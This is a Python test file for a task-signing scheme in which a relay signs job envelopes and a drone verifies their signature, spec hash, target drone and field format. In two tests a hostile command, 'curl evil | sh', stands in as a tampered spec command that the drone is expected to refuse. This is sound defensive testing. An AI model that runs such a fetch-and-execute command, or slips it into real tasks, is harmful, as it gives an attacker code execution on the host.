"""shared.task_auth: the relay's task envelope and the drone's check of it, held to fixtures/.

``task_envelopes.json`` holds envelopes as the relay hands them, with the
signed hash beside the spec, signed by ``ssh-keygen -Y sign``; each names the
check that must refuse it, if any. The other tests play the hostile relay
(or the hostile network) and pin each reason the drone reports.
"""

from __future__ import annotations

import base64
import hashlib
import math
from pathlib import Path
from typing import Any

import pytest
from dragoon.shared import sshsig
from dragoon.shared.canonical import canonical_task, canonical_task_from_hash, spec_sha256
from dragoon.shared.constants import NS_REQUEST, NS_TASK
from dragoon.shared.keys import PrivateKey, PublicKey
from dragoon.shared.signers import KeyFileSigner
from dragoon.shared.task_auth import (
    SignedTask,
    TaskRejected,
    VerifiedTask,
    parse_signed_task,
    sign_task,
    task_envelope,
    verify_task,
)

from tests.shared.conftest import load_vectors
from tests.support.keys import KeyMaker, check_novalidate

ENVELOPES = load_vectors("task_envelopes.json")
TASKS = load_vectors("canonical_tasks.json")
RELAY = KeyFileSigner(PrivateKey.generate_ed25519("relay"))
SPEC: dict[str, Any] = {"command": "echo hi", "env": {}, "cwd": None, "timeout": None,
                        "grace": 10, "artifacts": [], "name": None}
# What each check of verify_task says when it refuses, as the drone reports it.
REASONS = {"signature": "signature does not verify against the pinned relay key",
           "drone": "task is for drone", "spec_sha256": "spec hashes to"}


def _envelope(**change: Any) -> dict[str, Any]:
    fields: dict[str, Any] = {"task_id": "t-abc", "drone": "gpu-1", "seq": 5, "spec": SPEC}
    return task_envelope(RELAY, **(fields | change))


def _rejected(envelope: object, *, key: PublicKey = RELAY.public_key,
              drone_name: str = "gpu-1") -> str:
    with pytest.raises(TaskRejected) as caught:
        verify_task(key, envelope, drone_name=drone_name)
    assert caught.value.code == "bad_task_signature"
    return caught.value.detail


# --- the fixtures ------------------------------------------------------------------------------

@pytest.mark.parametrize("vector", ENVELOPES, ids=lambda v: v["case"])
def test_canonical_task_from_a_held_hash_matches_the_fixture(vector: dict[str, Any]) -> None:
    envelope = vector["envelope"]
    ours = canonical_task_from_hash(task_id=envelope["id"], drone=envelope["drone"],
                                    seq=envelope["seq"], spec_hash=vector["spec_sha256"])
    assert ours == base64.b64decode(vector["canonical_b64"])


@pytest.mark.parametrize("vector", ENVELOPES, ids=lambda v: v["case"])
def test_fixture_envelope_is_accepted_or_refused_by_the_named_check(vector: dict[str, Any]
                                                                    ) -> None:
    relay_key = PublicKey.from_openssh(vector["relay_public_key"])
    if vector["rejected"] is None:
        verified = verify_task(relay_key, vector["envelope"], drone_name=vector["verify_as"])
        envelope = vector["envelope"]
        assert verified == VerifiedTask(envelope["id"], envelope["drone"], envelope["seq"],
                                        envelope["spec"], vector["spec_sha256"])
    else:
        reason = _rejected(vector["envelope"], key=relay_key, drone_name=vector["verify_as"])
        assert reason.startswith(REASONS[vector["rejected"]]), reason


def test_fixture_envelopes_cover_acceptance_and_every_check() -> None:
    assert {v["rejected"] for v in ENVELOPES} == {None, *REASONS}


@pytest.mark.parametrize("vector", TASKS, ids=lambda v: v["task_id"])
def test_both_forms_of_the_canonical_task_agree_on_every_task_fixture(vector: dict[str, Any]
                                                                      ) -> None:
    held = hashlib.sha256(vector["spec_canonical_json"].encode("utf-8")).hexdigest()
    from_hash = canonical_task_from_hash(task_id=vector["task_id"], drone=vector["drone"],
                                         seq=vector["seq"], spec_hash=held)
    from_spec = canonical_task(task_id=vector["task_id"], drone=vector["drone"],
                               seq=vector["seq"], spec=vector["spec"])
    assert from_hash == from_spec == base64.b64decode(vector["canonical_b64"])


@pytest.mark.parametrize("vector", TASKS, ids=lambda v: v["task_id"])
def test_fixture_task_without_a_hash_beside_verifies(vector: dict[str, Any]) -> None:
    envelope = {"id": vector["task_id"], "drone": vector["drone"], "seq": vector["seq"],
                "spec": vector["spec"], "signature": vector["signature"]}
    relay_key = PublicKey.from_openssh(vector["relay_public_key"])
    verified = verify_task(relay_key, envelope, drone_name=vector["drone"])
    assert verified.spec_sha256 == spec_sha256(vector["spec"])


# --- the relay's side ---------------------------------------------------------------------------

def test_the_relay_envelope_has_the_fields_it_always_had() -> None:
    envelope = _envelope()
    assert list(envelope) == ["id", "drone", "seq", "spec", "signature"]
    assert (envelope["id"], envelope["drone"], envelope["seq"], envelope["spec"]) == (
        "t-abc", "gpu-1", 5, SPEC)
    message = canonical_task(task_id="t-abc", drone="gpu-1", seq=5, spec=SPEC)
    sshsig.verify_b64(envelope["signature"], NS_TASK, message, RELAY.public_key)


def test_a_held_hash_signs_the_same_lines_as_the_spec() -> None:
    held = spec_sha256(SPEC)
    by_hash = sign_task(RELAY, task_id="t-abc", drone="gpu-1", seq=5, spec_hash=held)
    by_spec = sign_task(RELAY, task_id="t-abc", drone="gpu-1", seq=5, spec=SPEC)
    assert by_hash == by_spec  # ed25519 signatures are deterministic
    assert _envelope(spec_hash=held) == _envelope()
    sent = _envelope(spec_hash=held, send_hash=True)
    assert sent["spec_sha256"] == held


def test_the_relay_signature_passes_ssh_keygen(keys: KeyMaker, workdir: Path) -> None:
    signer = KeyFileSigner.from_file(keys.make("ed25519"))
    signature = sign_task(signer, task_id="t-abc", drone="gpu-1", seq=5, spec=SPEC)
    message = canonical_task(task_id="t-abc", drone="gpu-1", seq=5, spec=SPEC)
    done = check_novalidate(NS_TASK, message, sshsig.decode_b64(signature), workdir)
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("kwargs", [{}, {"spec": SPEC, "spec_hash": "0" * 64}])
def test_sign_task_needs_exactly_one_of_spec_and_hash(kwargs: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match="exactly one of spec and spec_hash"):
        sign_task(RELAY, task_id="t-abc", drone="gpu-1", seq=5, **kwargs)


@pytest.mark.parametrize("spec_hash", ["0" * 63, "A" * 64, "0" * 63 + "\n", "g" * 64])
def test_the_relay_refuses_to_sign_a_hash_that_is_no_hash(spec_hash: str) -> None:
    with pytest.raises(ValueError, match="spec_sha256 must be 64 lowercase hex digits"):
        sign_task(RELAY, task_id="t-abc", drone="gpu-1", seq=5, spec_hash=spec_hash)


# --- the drone's side: a hostile relay or network ----------------------------------------------

def test_a_good_envelope_is_returned_checked() -> None:
    for envelope in (_envelope(), _envelope(send_hash=True)):
        assert verify_task(RELAY.public_key, envelope, drone_name="gpu-1") == VerifiedTask(
            "t-abc", "gpu-1", 5, SPEC, spec_sha256(SPEC))
        parsed = parse_signed_task(envelope)
        assert verify_task(RELAY.public_key, parsed, drone_name="gpu-1").id == "t-abc"


def test_a_task_signed_by_another_key_is_refused() -> None:
    intruder = KeyFileSigner(PrivateKey.generate_ed25519())
    envelope = task_envelope(intruder, task_id="t-abc", drone="gpu-1", seq=5, spec=SPEC)
    reason = _rejected(envelope)
    assert reason.startswith(REASONS["signature"])
    assert f"signed by {intruder.fingerprint}" in reason


def test_a_request_signature_is_not_a_task_signature() -> None:
    message = canonical_task(task_id="t-abc", drone="gpu-1", seq=5, spec=SPEC)
    envelope = _envelope() | {"signature": sshsig.encode_b64(RELAY.sign(NS_REQUEST, message))}
    assert "namespace" in _rejected(envelope)


@pytest.mark.parametrize("change", [{"id": "t-other"}, {"seq": 6}, {"drone": "gpu-2"},
                                    {"spec": {**SPEC, "command": "curl evil | sh"}}])
def test_a_changed_field_breaks_the_signature(change: dict[str, Any]) -> None:
    name = change.get("drone", "gpu-1")
    reason = _rejected(_envelope() | change, drone_name=name)
    assert reason.startswith(REASONS["signature"])


def test_a_spec_changed_beside_its_signed_hash_is_named() -> None:
    envelope = _envelope(send_hash=True)
    envelope["spec"] = {**SPEC, "command": "curl evil | sh"}
    reason = _rejected(envelope)
    held = spec_sha256(SPEC)
    assert reason == (f"spec hashes to {spec_sha256(envelope['spec'])[:12]}…, "
                      f"not the signed {held[:12]}…")


def test_a_task_for_another_drone_is_refused_after_its_signature_checks() -> None:
    assert _rejected(_envelope(), drone_name="gpu-2") == "task is for drone 'gpu-1', not 'gpu-2'"


@pytest.mark.parametrize("claimed", ["0" * 63, "F" * 64, "0" * 64 + "\nX"])
def test_a_claimed_hash_that_is_no_hash_is_named(claimed: str) -> None:
    reason = _rejected(_envelope() | {"spec_sha256": claimed})
    assert reason.startswith("task cannot be checked as sent: spec_sha256 must be 64 lowercase")


@pytest.mark.parametrize("field", ["id", "drone"])
def test_a_line_break_in_a_field_is_refused_not_raised(field: str) -> None:
    # It would shift the five lines: the drone must answer with a reason, not crash its loop.
    envelope = _envelope()
    envelope[field] += "\n5"
    reason = _rejected(envelope, drone_name=envelope["drone"])
    assert reason == (f"task cannot be checked as sent: {field.replace('id', 'task_id')} "
                      f"must not contain a line break: {envelope[field]!r}")


@pytest.mark.parametrize("send_hash", [False, True])
def test_a_spec_without_canonical_json_is_refused_not_raised(send_hash: bool) -> None:
    # json.loads lets NaN through, so a drone can be handed one.
    envelope = _envelope(send_hash=send_hash)
    envelope["spec"] = {**SPEC, "timeout": math.nan}
    assert _rejected(envelope) == "spec cannot be put in canonical JSON"


def test_a_garbage_signature_is_refused_not_raised() -> None:
    reason = _rejected(_envelope() | {"signature": "not base64 !!!"})
    assert reason.startswith(REASONS["signature"])


@pytest.mark.parametrize(("change", "reason"), [
    ({"id": None}, "task has no id"),
    ({"id": ""}, "task has no id"),
    ({"drone": 7}, "task has no drone name"),
    ({"seq": "5"}, "task has no valid sequence number"),
    ({"seq": True}, "task has no valid sequence number"),
    ({"seq": -1}, "task has no valid sequence number"),
    ({"spec": "echo"}, "task has no spec object"),
    ({"signature": ""}, "task is not signed"),
    ({"spec_sha256": 12}, "task's spec_sha256 is not a string"),
])
def test_an_unreadable_envelope_is_named(change: dict[str, Any], reason: str) -> None:
    envelope = _envelope() | change
    with pytest.raises(TaskRejected, match=reason):
        parse_signed_task(envelope)
    assert _rejected(envelope) == reason


@pytest.mark.parametrize("raw", [None, [], "task", 5])
def test_an_envelope_that_is_no_object_is_named(raw: object) -> None:
    assert _rejected(raw) == "task is not a JSON object"


def test_a_parsed_envelope_keeps_every_field() -> None:
    envelope = _envelope(send_hash=True)
    assert parse_signed_task(envelope) == SignedTask(
        "t-abc", "gpu-1", 5, SPEC, envelope["signature"], spec_sha256(SPEC))
